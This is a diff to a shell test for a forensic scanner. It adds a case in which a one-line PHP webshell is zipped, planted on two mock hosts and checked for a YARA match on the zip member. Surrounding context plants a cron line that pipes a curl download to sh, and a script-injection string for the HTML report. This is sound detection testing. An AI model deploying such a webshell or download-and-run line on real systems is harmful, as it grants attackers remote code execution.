@@ -7,7 +7,8 @@
 # no worker involved; a fourth folder has no COMPLETE, a fifth a truncated gzip.
 # Oracles: the scans' own events (read with Python, not deltair) for which host has which
 # path, content hash, class counts and change times; sha256sum of the planted files; the
-# yara tool for the rule match. report.html is rendered by Debian's headless chromium: it
+# yara tool for the rule match (also on a webshell that host-a and host-b hold inside an
+# uploaded zip: the report names the member under its zip). report.html is rendered by Debian's headless chromium: it
 # names every host and planted file, and no hostile name became markup.
 . "$TOP/tests/cli/lib.sh"
 need mke2fs debugfs gzip jq python3 yara chromium sha256sum
@@ -27,6 +28,14 @@ head -c 20000 /dev/urandom > implant.bin
 printf '* * * * * root curl -s http://203.0.113.5/x | sh\n' > cron.txt
 yara -d filepath=/etc/cron.d/sysupdate -d filename=sysupdate "$TOP/rules/reverse_shells.yar" cron.txt | grep -q '^download_pipe_shell ' ||
 	die "the yara tool does not find download_pipe_shell in the cron line"
+# A webshell inside a zip upload (issue 14): its match is on the member "site/shell.php".
+mkdir -p upload/site && printf '<?php eval($_POST["c"]); ?>\n' > upload/site/shell.php
+python3 -c 'import sys, zipfile
+with zipfile.ZipFile(sys.argv[1], "w") as z: z.write("upload/site/shell.php", "site/shell.php")' upload.zip ||
+	die "cannot make upload.zip"
+yara "$TOP/rules/webshells.yar" upload/site/shell.php | grep -q '^php_webshell_request_exec ' ||
+	die "the yara tool does not find php_webshell_request_exec in the member"
+SHELL_SHA=$(sha256sum < upload/site/shell.php | cut -c1-64)
 
 HOSTILE=(
 	'<script>alert("pwn")'
@@ -44,6 +53,8 @@ for h in host-a host-b; do
 	cp implant.bin "$h/usr/lib/.cache/kworker"
 	chmod 0755 "$h/usr/lib/.cache/kworker"
 	cp cron.txt "$h/etc/cron.d/sysupdate"
+	mkdir -p "$h/var/www"
+	cp upload.zip "$h/var/www/upload.zip"
 done
 printf 'sysadm:x:0:0::/root:/bin/bash\n' >> host-c/etc/passwd
 for n in "${HOSTILE[@]}"; do
@@ -170,6 +181,21 @@ for h in host-a host-b; do
 		any(.yara[]; .rule == "download_pipe_shell" and .path == "/etc/cron.d/sysupdate")' \
 		"$R" > /dev/null || fail "$h: no download_pipe_shell match on /etc/cron.d/sysupdate"
 done
+# The member's match is under its zip: in the host's list with "member" and the member's
+# SHA-256, and counted for the zip's path (as a match in a member) on both hosts.
+for h in host-a host-b; do
+	jq -e --arg h "$h" --arg s "$SHELL_SHA" '.hosts[] | select(.name == $h) |
+		any(.yara[]; .rule == "php_webshell_request_exec" and .path == "/var/www/upload.zip" and
+			.member == "site/shell.php" and .sha256 == $s)' "$R" > /dev/null ||
+		fail "$h: no php_webshell_request_exec match on /var/www/upload.zip!site/shell.php: $(jq -c --arg h "$h" '.hosts[] | select(.name == $h) | .yara' "$R")"
+done
+jq -e '.paths[] | select(.path == "/var/www/upload.zip") | .yara_matches >= 2 and
+	([.on[] | .host] == ["host-a","host-b"]) and all(.on[]; .yara_members >= 1 and .yara >= .yara_members)' \
+	"$R" > /dev/null || fail "the zip's path does not count its member's match: $(jq -c '.paths[] | select(.path == "/var/www/upload.zip")' "$R")"
+jq -e '[.hosts[] | select(.status == "complete") | .yara[] | select(.member) | .path] | unique == ["/var/www/upload.zip"]' \
+	"$R" > /dev/null || fail "member matches elsewhere than the zip"
+jq -e '[.paths[] | .on[] | select(.yara_members > 0)] | length == 2' "$R" > /dev/null ||
+	fail "paths other than the zip count matches in members"
 jq -e '.hosts[] | select(.name == "host-c") | .yara_matches == 0 and .rows.added >= 1 and
 	any(.row_changes[]; .table == "users" and .action == "added" and .columns.username == "sysadm")' \
 	"$R" > /dev/null || fail "host-c: the sysadm account should be a row change, with no YARA match"
@@ -216,7 +242,8 @@ if injected:
     bad.append("injected attributes: %s" % injected)
 want = ["host-a", "host-b", "host-c", "host-d", "host-e", "/usr/lib/.cache/kworker",
         "/etc/cron.d/sysupdate", "/etc/passwd", "/var/log/syslog", "/etc/hostname",
-        "download_pipe_shell", "sysadm", "no COMPLETE marker"]
+        "download_pipe_shell", "sysadm", "no COMPLETE marker", "/var/www/upload.zip",
+        "site/shell.php", "php_webshell_request_exec", "in members"]
 for n in sys.argv[2:]:
     shown = "".join("\\x%02x" % ord(c) if c < " " else c for c in n)
     shown = shown.replace("\udcff", "\\xff").replace("\udcfe", "\\xfe")
